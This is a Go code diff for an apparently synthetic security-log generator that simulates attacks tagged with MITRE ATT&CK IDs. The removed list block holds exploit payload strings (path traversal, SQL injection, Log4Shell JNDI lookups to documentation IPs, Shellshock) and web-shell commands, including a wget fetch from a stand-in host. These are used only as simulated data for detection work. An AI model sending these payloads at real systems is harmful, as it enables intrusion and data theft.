@@ -42,7 +42,7 @@ var scenarios = []scenario{
 		p.incident("scan", "TA0043", "T1595.001", "T1595.002", "T1595", "T1046")
 		p.scanPorts(s.v4, p.jump, p.vpn, p.mail, p.web)
 		p.rest()
-		user := pick(p.dice, guessedUsers)
+		user := pick(p.dice, lists.GuessedUsers)
 		p.guessPassword(s.v4, entry, "ssh", user, "brute-force")
 		p.pause(time.Second, 20*time.Second)
 		p.logInAfter(s.v4, entry, "ssh", user)
@@ -66,7 +66,7 @@ var scenarios = []scenario{
 			p.scanPorts(s.v4, pick(p.dice, p.servers))
 		} else {
 			p.incident("", "TA0007", "T1046", "T1018")
-			p.sweep(s.v4, pick(p.dice, subnets))
+			p.sweep(s.v4, pick(p.dice, []int{1, 2, 3, 8}))
 		}
 	}},
 	{"external-scan", 25, 30 * time.Second, "TA0043", ids{"T1595.001", "T1595.002", "T1595", "T1046"}, nobody, func(p *plan, _ *station) {
@@ -77,7 +77,7 @@ var scenarios = []scenario{
 		}
 	}},
 	{"host-discovery", 25, 30 * time.Second, "TA0007", ids{"T1018", "T1046"}, somebody, func(p *plan, s *station) {
-		subnet := pick(p.dice, subnets)
+		subnet := pick(p.dice, []int{1, 2, 3, 8})
 		t := p.tempo(30, 254, time.Millisecond, 30*time.Second)
 		first := p.below(254)
 		for i := range p.turns(t, 50) {
@@ -110,7 +110,7 @@ var scenarios = []scenario{
 		from, to, protocol := p.wayIn([]door{
 			{p.mail, "imap"}, {p.vpn, "vpn"}, {p.app, "rdp"}, {p.files, "smb"}, {p.jump, "ssh"},
 		})
-		user := pick(p.dice, guessedUsers)
+		user := pick(p.dice, lists.GuessedUsers)
 		if p.chance(40) {
 			user = somebody(p).user
 		}
@@ -137,7 +137,7 @@ var scenarios = []scenario{
 	}},
 	// Names and passwords stolen elsewhere, tried on the website's login.
 	{"credential-stuffing", 25, time.Minute, "TA0006", ids{"T1110.004", "T1110.003", "T1110.001", "T1110"}, outsider, func(p *plan, s *station) {
-		agent := pick(p.dice, []string{"python-requests/2.32.3", "Go-http-client/1.1", browsers[0], browsers[2], "okhttp/4.12.0"})
+		agent := pick(p.dice, []string{"python-requests/2.32.3", "Go-http-client/1.1", lists.Browsers[0], lists.Browsers[2], "okhttp/4.12.0"})
 		path := pick(p.dice, []string{"/account/login", "/login", "/api/v1/login", "/wp-login.php"})
 		for range p.turns(p.tempo(25, 800, 40*time.Millisecond, 25*time.Second), 60) {
 			status := 401
@@ -177,20 +177,20 @@ var scenarios = []scenario{
 	}},
 	// Calls home by web requests that look like those of well-known tools in their default settings.
 	{"http-beacon", 16, 5 * time.Minute, "TA0011", ids{"T1071.001", "T1071", "T1571"}, somebody, func(p *plan, s *station) {
-		home, tool := p.outside(), pick(p.dice, beacons)
+		home, tool := p.outside(), pick(p.dice, lists.Beacons)
 		host := home.String()
 		if p.chance(40) {
 			host = p.badName()
 		}
 		t := p.tempo(16, 400, 4*time.Second, 5*time.Minute)
-		percent, path := pick(p.dice, []int{0, 10, 20, 37, 50}), pick(p.dice, tool.get)
+		percent, path := pick(p.dice, []int{0, 10, 20, 37, 50}), pick(p.dice, tool.Get)
 		for range p.turns(t, percent) {
 			if p.chance(15) {
 				id := "id=" + strconv.Itoa(p.between(10000, 99999))
-				e := p.request(s.v4, home, "POST", host, tool.post, id, tool.agent, 200, p.between(0, 200))
+				e := p.request(s.v4, home, "POST", host, tool.Post, id, tool.Agent, 200, p.between(0, 200))
 				p.moved(e, p.spread(300, 90000), p.between(0, 200), p.delay(20*time.Millisecond, time.Second))
 			} else {
-				p.request(s.v4, home, "GET", host, path, "", tool.agent, 200, p.spread(40, 3000))
+				p.request(s.v4, home, "GET", host, path, "", tool.Agent, 200, p.spread(40, 3000))
 			}
 		}
 	}},
@@ -225,7 +225,7 @@ var scenarios = []scenario{
 		for i := range p.turns(t, 60) {
 			name := p.text(p.between(short, short+6), alphabet)
 			if spelled {
-				name = pick(p.dice, words) + pick(p.dice, words)
+				name = pick(p.dice, lists.Words) + pick(p.dice, lists.Words)
 			}
 			name += pick(p.dice, tops)
 			if i == t.n-1 && p.chance(50) {
@@ -256,51 +256,52 @@ var scenarios = []scenario{
 	}},
 	// Installs a program that lets others in.
 	{"remote-access", 4, time.Minute, "TA0011", ids{"T1219", "T1219.002", "T1571"}, somebody, func(p *plan, s *station) {
-		tool := pick(p.dice, remoteTools)
+		tool := pick(p.dice, lists.RemoteTools)
 		for range p.turns(p.tempoOf(2, 2, 12, 2*time.Second, 2*time.Minute), 60) {
 			relay := p.outside()
-			name := tool.relay + strconv.FormatInt(int64(p.below(5000)), 36) + tool.domain
-			p.moves(p.call(s.v4, name, relay, tool.port, "ssl"), bytes{3000, 90e6}, bytes{3000, 9e6}, 10*time.Second, time.Hour)
+			name := tool.Relay + strconv.FormatInt(int64(p.below(5000)), 36) + tool.Domain
+			p.moves(p.call(s.v4, name, relay, tool.Port, "ssl"), bytes{3000, 90e6}, bytes{3000, 9e6}, 10*time.Second, time.Hour)
 		}
 	}},
 	{"tool-transfer", 1, 30 * time.Second, "", nil, somebody, func(p *plan, s *station) { p.fetchTool(s.v4, "") }},
 	// Looks for weak spots of the website, and goes in if it finds one.
 	{"web-attack", 40, 2 * time.Minute, "", nil, outsider, func(p *plan, s *station) {
 		p.incident("scan", "TA0043", "T1595.003", "T1595.002", "T1595", "T1190")
-		agent := pick(p.dice, webScanners)
+		agent := pick(p.dice, lists.WebScanners)
 		if p.chance(40) {
-			agent = pick(p.dice, browsers)
+			agent = pick(p.dice, lists.Browsers)
 		}
 		for range p.turns(p.tempo(30, 1200, 5*time.Millisecond, 20*time.Second), 60) {
-			path := "/" + pick(p.dice, scannedPaths) + pick(p.dice, []string{"", "/", ".php", ".bak", ".old", ".zip", "~"})
+			path := "/" + pick(p.dice, lists.ScannedPaths) + pick(p.dice, []string{"", "/", ".php", ".bak", ".old", ".zip", "~"})
 			if p.chance(60) {
-				path = "/" + pick(p.dice, words) + strconv.Itoa(p.below(100)) + pick(p.dice, []string{"", "/", ".php", ".asp", ".txt"})
+				path = "/" + pick(p.dice, lists.Words) + strconv.Itoa(p.below(100)) + pick(p.dice, []string{"", "/", ".php", ".asp", ".txt"})
 			}
 			status := pick(p.dice, []int{404, 404, 404, 404, 404, 404, 404, 404, 403, 301, 200})
 			p.requestWebsite(s.v4, "GET", path, "", agent, status, p.spread(160, 9000))
 		}
 		p.rest()
 		p.incident("exploit", "TA0001", "T1190", "T1595.002", "T1595")
-		agent = pick(p.dice, browsers)
+		agent = pick(p.dice, lists.Browsers)
 		t := p.tempo(4, 40, 200*time.Millisecond, 15*time.Second)
-		kind := pick(p.dice, exploits)
+		kind := pick(p.dice, lists.Exploits)
 		for range p.turns(t, 60) {
 			if p.chance(20) {
-				kind = pick(p.dice, exploits)
+				kind = pick(p.dice, lists.Exploits)
 			}
 			x := pick(p.dice, kind)
 			status := pick(p.dice, []int{200, 200, 404, 403, 500})
-			p.requestWebsite(s.v4, x.method, x.path, x.query, cmp.Or(x.agent, agent), status, p.spread(200, 20000))
+			p.requestWebsite(s.v4, x.Method, x.Path, x.Query, cmp.Or(x.Agent, agent), status, p.spread(200, 20000))
 		}
 		if p.chance(60) {
 			p.rest()
 			p.incident("web-shell", "TA0003", "T1505.003", "T1505", "T1190", "T1059")
 			path := pick(p.dice, []string{"/uploads/", "/images/", "/wp-content/uploads/2026/", "/files/", "/tmp/"}) +
 				pick(p.dice, []string{"shell.php", "cmd.php", "c99.php", "up.jsp", "x.aspx", "wso.php", "img.php"})
-			key, agent := pick(p.dice, []string{"cmd", "c", "exec", "command"}), pick(p.dice, []string{browsers[0], "curl/8.10.1", "python-requests/2.32.3"})
+			key := pick(p.dice, []string{"cmd", "c", "exec", "command"})
+			agent := pick(p.dice, []string{lists.Browsers[0], "curl/8.10.1", "python-requests/2.32.3"})
 			for range p.turns(p.tempo(4, 25, 2*time.Second, 40*time.Second), 60) {
 				method := pick(p.dice, []string{"GET", "POST"})
-				p.requestWebsite(s.v4, method, path, key+"="+pick(p.dice, commands), agent, 200, p.spread(20, 9000))
+				p.requestWebsite(s.v4, method, path, key+"="+pick(p.dice, lists.Commands), agent, 200, p.spread(20, 9000))
 			}
 		}
 		if p.chance(40) {
@@ -315,10 +316,10 @@ var scenarios = []scenario{
 			p.stealByFTP(s.v4, "")
 		case k < 7:
 			p.incident("", "TA0010", "T1567.002", "T1567", "T1048.002", "T1048")
-			to, where := p.outside(), pick(p.dice, cloudStores)
-			agent := pick(p.dice, []string{"rclone/v1.68.2", where.agent, pick(p.dice, browsers)})
+			to, where := p.outside(), pick(p.dice, lists.CloudStores)
+			agent := pick(p.dice, []string{"rclone/v1.68.2", where.Agent, pick(p.dice, lists.Browsers)})
 			for range p.turns(p.tempo(4, 40, 2*time.Second, 40*time.Second), 50) {
-				e := p.request(s.v4, to, where.method, where.domain, where.path+p.text(14, alphanums), "", agent, 200, 400)
+				e := p.request(s.v4, to, where.Method, where.Domain, where.Path+p.text(14, alphanums), "", agent, 200, 400)
 				e.Destination.Port = event.Known(443)
 				p.moved(e, p.spread(30e6, 1e9), p.between(200, 900), p.delay(2*time.Second, 4*time.Minute))
 			}
@@ -333,7 +334,7 @@ var scenarios = []scenario{
 					continue
 				}
 				path := pick(p.dice, []string{"/upload", "/gate.php", "/submit.php", "/api/data"})
-				e := p.request(s.v4, to, "POST", to.String(), path, "", browsers[0], 200, 100)
+				e := p.request(s.v4, to, "POST", to.String(), path, "", lists.Browsers[0], 200, 100)
 				p.moved(e, p.spread(30e6, 900e6), p.between(60, 300), p.delay(4*time.Second, 5*time.Minute))
 			}
 		}
@@ -354,7 +355,7 @@ var scenarios = []scenario{
 	{"http-flood", 120, 30 * time.Second, "TA0040", ids{"T1499.002", "T1499", "T1498.001", "T1498", "T1499.003"}, nobody, func(p *plan, _ *station) {
 		t := p.tempo(120, 3000, 2*time.Millisecond, 300*time.Millisecond)
 		sources := p.botnet(t.n)
-		path, agent := pick(p.dice, []string{"/", "/search", "/products"}), pick(p.dice, browsers)
+		path, agent := pick(p.dice, []string{"/", "/search", "/products"}), pick(p.dice, lists.Browsers)
 		busts := p.chance(50) // past the cache
 		for i := range p.turns(t, 90) {
 			query, status := "", 200
@@ -369,7 +370,7 @@ var scenarios = []scenario{
 	}},
 	// Works for somebody else's wallet.
 	{"cryptomining", 4, time.Minute, "TA0040", ids{"T1496.001", "T1496", "T1571"}, somebody, func(p *plan, s *station) {
-		pool := pick(p.dice, miningPools)
+		pool := pick(p.dice, lists.MiningPools)
 		home, port := p.outside(), pick(p.dice, []int{3333, 4444, 5555, 7777, 14444, 443})
 		for range p.turns(p.tempoOf(2, 2, 15, 5*time.Second, 3*time.Minute), 50) {
 			p.moves(p.call(s.v4, pool, home, port, ""), bytes{2000, 90000}, bytes{4000, 200000}, 30*time.Second, 30*time.Minute)
@@ -392,8 +393,8 @@ func (p *plan) scanPorts(from netip.Addr, targets ...netip.Addr) {
 	first := p.below(len(targets))
 	used := min(len(targets), 1+t.n/100) // enough ports on each
 	for i := range p.turns(t, 60) {
-		port := commonPorts[(i/used*7+p.number)%len(commonPorts)]
-		if i/used >= len(commonPorts) {
+		port := lists.CommonPorts[(i/used*7+p.number)%len(lists.CommonPorts)]
+		if i/used >= len(lists.CommonPorts) {
 			port = p.between(1, 65535)
 		}
 		e := p.conn(from, targets[(first+i%used)%len(targets)], port, "")
@@ -464,7 +465,6 @@ func (p *plan) logInAfter(from, to netip.Addr, protocol, user string) {
 	}
 }
 
-// moveAround logs in to one machine after the other.
 func (p *plan) moveAround(from netip.Addr, user, step string) {
 	way := pick(p.dice, []struct {
 		technique, protocol string
@@ -481,7 +481,7 @@ func (p *plan) moveAround(from netip.Addr, user, step string) {
 
 // badName is a name that an attacker registered.
 func (p *plan) badName() string {
-	return pick(p.dice, []string{"cdn-", "update-", "api-", "static-", ""}) + pick(p.dice, words) + pick(p.dice, words) +
+	return pick(p.dice, []string{"cdn-", "update-", "api-", "static-", ""}) + pick(p.dice, lists.Words) + pick(p.dice, lists.Words) +
 		pick(p.dice, []string{".top", ".xyz", ".info", ".site", ".com"})
 }
 
@@ -495,8 +495,8 @@ func (p *plan) fetchTool(to netip.Addr, step string) {
 		host = p.badName()
 	}
 	for range p.times(1, 4, time.Second, 20*time.Second) {
-		path := "/" + pick(p.dice, []string{"", "", "a/", "tmp/", "files/"}) + pick(p.dice, payloads)
-		p.request(to, from, "GET", host, path, "", pick(p.dice, downloaders), 200, p.spread(8000, 9000000))
+		path := "/" + pick(p.dice, []string{"", "", "a/", "tmp/", "files/"}) + pick(p.dice, lists.Payloads)
+		p.request(to, from, "GET", host, path, "", pick(p.dice, lists.Downloaders), 200, p.spread(8000, 9000000))
 	}
 }
 
@@ -516,74 +516,3 @@ func (p *plan) botnet(n int) []netip.Addr {
 	}
 	return sources
 }
-
-type webExploit struct{ method, path, query, agent string }
-
-var (
-	commonPorts  = []int{21, 22, 23, 25, 53, 80, 88, 110, 111, 119, 135, 137, 139, 143, 161, 179, 389, 427, 443, 444, 445, 465, 513, 514, 515, 543, 544, 548, 554, 587, 631, 636, 646, 873, 902, 990, 993, 995, 1025, 1026, 1027, 1080, 1110, 1433, 1521, 1720, 1723, 1755, 1883, 1900, 2000, 2049, 2121, 2375, 2717, 3000, 3128, 3268, 3306, 3389, 3690, 4899, 5000, 5009, 5051, 5060, 5190, 5357, 5432, 5601, 5631, 5666, 5800, 5900, 5985, 6000, 6379, 6443, 6646, 7001, 7070, 8000, 8008, 8009, 8080, 8081, 8443, 8888, 9000, 9090, 9100, 9200, 9999, 10000, 11211, 27017, 32768, 49152, 49153, 49154, 49155, 50000}
-	subnets      = []int{1, 2, 3, 8} // that are looked into
-	guessedUsers = []string{"root", "admin", "administrator", "user", "test", "oracle", "postgres", "ubuntu", "git", "backup"}
-
-	// beacons are the default web requests of command-and-control tools.
-	beacons = []struct {
-		get         []string
-		post, agent string
-	}{
-		{[]string{"/pixel.gif", "/__utm.gif", "/ptj", "/j.ad", "/ga.js", "/en_US/all.js", "/activity", "/dpixel", "/cx", "/ca", "/fwlink", "/visit.js", "/load"}, "/submit.php", "Mozilla/5.0 (compatible; MSIE 9.0; Windows NT 6.1; Trident/5.0)"},
-		{[]string{"/admin/get.php", "/news.php", "/login/process.php"}, "/admin/get.php", "Mozilla/5.0 (Windows NT 6.1; WOW64; Trident/7.0; rv:11.0) like Gecko"},
-		{[]string{"/gate.php", "/panel/gate.php", "/api/v2/tasks"}, "/gate.php", "Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1)"},
-	}
-	remoteTools = []struct {
-		relay, domain string
-		port          int
-	}{
-		{"relay-", ".net.anydesk.com", 7070},
-		{"router", ".teamviewer.com", 5938},
-		{"rs-", ".rustdesk.com", 21116},
-		{"instance-", "-relay.screenconnect.com", 443},
-	}
-	payloads     = []string{"update.exe", "svchost.exe", "payload.bin", "beacon.dll", "run.ps1", "stage2.ps1", "install.sh", "xmrig.elf", "agent.exe", "mimi.zip", "nc.exe", "setup.hta", "linux.sh"}
-	downloaders  = []string{"CertUtil URL Agent", "Microsoft-CryptoAPI/10.0", "Microsoft BITS/7.8", "Mozilla/5.0 (Windows NT; Windows NT 10.0; en-US) WindowsPowerShell/5.1.19041.1", "curl/8.10.1", "Wget/1.21.4", "python-requests/2.32.3"}
-	webScanners  = []string{"gobuster/3.6", "Fuzz Faster U Fool v2.1.0-dev", "feroxbuster/2.10.4", "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000003)", "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)", "DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)", "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)", "WPScan v3.8.27 (https://wpscan.com/wordpress-security-scanner)"}
-	scannedPaths = []string{"admin", "backup", "config", ".git/config", ".env", "phpinfo", "wp-admin", "wp-login", "phpmyadmin", "server-status", "test", "old", "dev", "api", "console", "manager/html", "actuator/env", "db", "dump", "install", "cgi-bin", "private", "upload", "uploads", "logs"}
-
-	exploits = [][]webExploit{
-		{
-			{"GET", "/download", "file=../../../../etc/passwd", ""},
-			{"GET", "/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd", "", ""},
-			{"GET", "/static/../../../../windows/win.ini", "", ""},
-			{"GET", "/view", "page=..%2f..%2f..%2f..%2fetc%2fshadow", ""},
-		},
-		{
-			{"GET", "/products", "id=1' OR '1'='1", ""},
-			{"GET", "/products", "id=-1 UNION SELECT username,password FROM users--", "sqlmap/1.8.11#stable (https://sqlmap.org)"},
-			{"GET", "/products", "id=1%27%20AND%20SLEEP(5)--%20-", "sqlmap/1.8.11#stable (https://sqlmap.org)"},
-			{"GET", "/search", "q=1%20UNION%20ALL%20SELECT%20NULL,NULL,CONCAT(0x71,0x7a)--", ""},
-			{"GET", "/search", "q=%27;WAITFOR%20DELAY%20%270:0:5%27--", ""},
-		},
-		{
-			{"GET", "/", "x=${jndi:ldap://198.51.100.7:1389/a}", ""},
-			{"GET", "/", "", "${jndi:ldap://198.51.100.7:1389/Basic/Command}"},
-			{"GET", "/login", "", "${${lower:j}ndi:${lower:l}dap://198.51.100.9/x}"},
-			{"POST", "/api/v1/orders", "ref=$%7bjndi:rmi://198.51.100.9/o%7d", ""},
-		},
-		{
-			{"POST", "/cgi-bin/%%32%65%%32%65/%%32%65%%32%65/bin/sh", "", ""},
-			{"GET", "/index.php", "s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=system&vars[1][]=id", ""},
-			{"GET", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "", ""},
-			{"GET", "/", "class.module.classLoader.resources.context.parent.pipeline.first.pattern=%25%7Bc2%7Di", ""},
-			{"GET", "/cgi-bin/status", "", "() { :; }; /bin/bash -c 'id'"},
-		},
-	}
-	commands = []string{"whoami", "id", "uname%20-a", "cat%20/etc/passwd", "ls%20-la", "ipconfig%20/all", "net%20user", "ps%20aux", "wget%20http://198.51.100.7/x.sh", "tasklist"}
-
-	cloudStores = []struct{ method, domain, path, agent string }{
-		{"POST", "gfs270n071.userstorage.mega.co.nz", "/ul/", "MEGAcmd/1.7.0"},
-		{"POST", "content.dropboxapi.com", "/2/files/upload/", "OfficialDropboxPythonSDKv2/12.0.2"},
-		{"PUT", "www.googleapis.com", "/upload/drive/v3/files/", "google-api-python-client/2.149.0"},
-		{"PUT", "transfer.sh", "/", "curl/8.10.1"},
-		{"POST", "store3.gofile.io", "/uploadFile/", "python-requests/2.32.3"},
-		{"PUT", "api.pcloud.com", "/uploadfile/", "curl/8.10.1"},
-	}
-	miningPools = []string{"pool.supportxmr.com", "xmr-eu1.nanopool.org", "gulf.moneroocean.stream", "pool.minexmr.com", "eth-eu1.nanopool.org", "xmr.2miners.com"}
-)
